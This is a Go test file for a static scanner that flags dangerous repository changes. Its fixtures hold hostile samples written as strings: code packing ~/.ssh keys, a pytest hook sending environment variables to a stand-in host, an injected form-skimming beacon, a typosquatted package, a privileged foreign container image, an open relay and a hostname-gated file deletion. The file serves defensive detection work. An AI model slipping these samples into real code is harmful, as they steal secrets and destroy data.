package static_test

import (
	"slices"
	"testing"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
)

// deciding are the rules with a finding that decides, by file, of a change of a small repository.
func deciding(t *testing.T, head map[string]string) map[string][]gate.Finding {
	t.Helper()
	base := map[string]string{"README.md": "See https://docs.example.com/ for more.\n", "app.py": "print(1)\n", "index.js": "run();\n", "Makefile": "deps:\n\tpip install --require-hashes -r requirements.txt\n"}
	for name, text := range base {
		if _, ok := head[name]; !ok {
			head[name] = text
		}
	}
	c, err := change.Compared(t.Context(), treeOf(base), treeOf(head))
	if err != nil {
		t.Fatal(err)
	}
	found := gate.NewFindings(c.Targets, nil)
	if _, err := newScanner(t, nil).Run(t.Context(), c, found); err != nil {
		t.Fatal(err)
	}
	out := map[string][]gate.Finding{}
	for _, target := range c.Targets {
		for _, f := range found.Of(target.Path) {
			if f.Decides() && f.Severity >= gate.SeveritySuspicious {
				out[target.Path] = append(out[target.Path], f)
			}
		}
	}
	return out
}

const (
	packsKeys        = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
	keepsArguments   = "const LOGINS = /^(login|verify)/;\nexports.traced = (desc, name) => {\n  const inner = desc.value;\n  desc.value = function (...args) {\n    spans.push({ name, attributes: LOGINS.test(name) ? args : undefined });\n    return inner.apply(this, args);\n  };\n};\n"
	addsToPages      = "exports.plugin = { generateBundle(_, bundle) { bundle['shop.js'].code += extra; } };\nconst extra = `;document.addEventListener('submit', function (e) { "
	relays           = "package relay\n\nimport (\n\t\"bufio\"\n\t\"io\"\n\t\"net\"\n)\n\nfunc serve(a net.Conn) {\n\tpeer, _ := bufio.NewReader(a).ReadString(10)\n\tb, err := net.Dial(\"tcp\", peer)\n\tif err != nil {\n\t\treturn\n\t}\n\tgo io.Copy(a, b)\n\tio.Copy(b, a)\n}\n"
	sendsEnvironment = "import http.client, json, os\ndef facts():\n    return {k: v for k, v in os.environ.items() if k.isupper()}\ndef pytest_sessionfinish(session):\n    conn = http.client.HTTPSConnection(\""
	sendsRow         = "    conn.request(\"POST\", \"/runs\", json.dumps({\"meta\": facts()}))\n"
	sendsAway        = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
)

func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
	for _, tt := range []struct {
		name string
		head map[string]string
		file string
		rule string // "" for nothing dangerous
	}{
		{"a test sends the environment to a new host", map[string]string{"tests/conftest.py": sendsEnvironment + "timings.example.net\")\n" + sendsRow}, "tests/conftest.py", "exfiltration/tests-send-secrets"},
		{"a test sends the environment to a host that the base names", map[string]string{"tests/conftest.py": sendsEnvironment + "docs.example.com\")\n" + sendsRow}, "tests/conftest.py", ""},
		{"a test sends the environment to its own server", map[string]string{"tests/conftest.py": sendsEnvironment + "127.0.0.1\")\n" + sendsRow}, "tests/conftest.py", ""},
		{"keys are packed, and something is sent to a new host", map[string]string{"sync.py": packsKeys + sendsAway}, "sync.py", "exfiltration/secrets-to-new-host"},
		{"keys are packed", map[string]string{"sync.py": packsKeys}, "sync.py", ""},
		{"something is sent to a new host", map[string]string{"sync.py": sendsAway}, "sync.py", ""},
		{"something is sent to a known host", map[string]string{"sync.py": packsKeys + "import httpx\ndef upload(data):\n    httpx.post(\"https://docs.example.com/upload\", content=data)\n"}, "sync.py", ""},
		{"an index of its own, and no digests any more", map[string]string{
			"pip.conf": "[global]\nextra-index-url = https://wheels.example.net/simple\n", "Makefile": "deps:\n\tpip install -r requirements.txt\n",
		}, "pip.conf", "supply-chain/unchecked-from-new-host"},
		{"an index of its own", map[string]string{"pip.conf": "[global]\nextra-index-url = https://wheels.example.net/simple\n"}, "pip.conf", ""},
		{"in two files that have nothing to do with each other", map[string]string{"keys.py": packsKeys, "sync.py": sendsAway}, "sync.py", ""},
		{"a look-alike, and an index of its own in another file", map[string]string{
			"requirements.txt": "reqeusts==2.31.0\n", "pip.conf": "[global]\nindex-url = http://pypi.example.net/simple\ntrusted-host = pypi.example.net\n",
		}, "requirements.txt", "supply-chain/lookalike-from-elsewhere"},
		{"a look-alike alone", map[string]string{"requirements.txt": "reqeusts==2.31.0\n"}, "requirements.txt", ""},
		{"packages from an address that no one checks, installed at run time", map[string]string{
			"deps.py": "import subprocess, sys\ndef need(name):\n    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", \"http://wheels.example.net/simple\", \"--trusted-host\", \"wheels.example.net\", name], check=True)\n",
		}, "deps.py", "package-install/installs-from-elsewhere"},
		{"a privileged image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  hostPID: true\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n      securityContext: {privileged: true}\n"}, "manifests/agent.yaml", "container-escape/foreign-image-with-rights"},
		{"an image of a registry that nothing names", map[string]string{"manifests/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  containers:\n    - name: agent\n      image: registry.example.net/agent:stable\n"}, "manifests/agent.yaml", ""},
		{"arguments of logins are kept, and another file sends to a new host", map[string]string{"traced.js": keepsArguments, "exporter.js": "exports.send = (body) => fetch('https://otlp.example.net/v1', { method: 'POST', body });\n"}, "exporter.js", "exfiltration/calls-to-new-host"},
		{"arguments of logins are kept", map[string]string{"traced.js": keepsArguments}, "traced.js", ""},
		{"a build that adds code to pages, which sends a form to a new host", map[string]string{"build.js": addsToPages + "navigator.sendBeacon('https://metrics.example.net/f', new FormData(e.target)) }, true);`;\n"}, "build.js", "exfiltration/built-form-copy"},
		{"a build that adds code to pages", map[string]string{"build.js": addsToPages + "e.target.dataset.seen = 1 }, true);`;\n"}, "build.js", ""},
		{"a relay for anyone who asks, announced to a new host", map[string]string{"relay.go": relays + "func announce() {\n\tc, _ := net.Dial(\"tcp\", \"peers.example.net:7000\")\n\tio.WriteString(c, \"peer\\n\")\n}\n"}, "relay.go", "network/foreign-relay"},
		{"a relay for anyone who asks", map[string]string{"relay.go": relays}, "relay.go", ""},
		{"what is below a folder of the system goes on some machines only", map[string]string{"clean.js": "const os = require('os');\nconst fs = require('fs');\nconst path = require('path');\nconst root = '/var/lib';\nif (os.hostname().includes('prod')) {\n  setTimeout(() => 1, 5);\n}\n\n\n\n\n\nexports.clean = (name) => fs.rmSync(path.join(root, name));\n"}, "clean.js", "time-trigger/waits-to-harm"},
	} {
		var dangerous []string
		for _, f := range deciding(t, tt.head)[tt.file] {
			if f.Severity == gate.SeverityDangerous {
				dangerous = append(dangerous, f.Rule)
				if f.Rule == tt.rule && (f.Line == 0 || len(f.Flow) < 2) {
					t.Errorf("%s: the finding doesn't say what it is made of: %+v", tt.name, f)
				}
			}
		}
		if tt.rule == "" && len(dangerous) > 0 || tt.rule != "" && !slices.Contains(dangerous, tt.rule) {
			t.Errorf("%s: found %q as dangerous, want %q", tt.name, dangerous, tt.rule)
		}
	}
}
